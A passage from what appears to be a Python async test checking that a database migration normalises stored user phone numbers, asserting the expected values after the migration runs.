        await User.create(handle=f"old{i}", display_name="x", password_hash="x", phone=phone)

    class Editor:
        client = connections.get("default")

    await migration.normalise(None, Editor())
    phones = {u.handle: u.phone for u in await User.filter(handle__startswith="old")}
    assert phones == {"old0": "+62812555000111", "old1": None, "old2": "+6281255500222",
                      "old3": "+6281255500333", "old4": None}  # fmt: skip
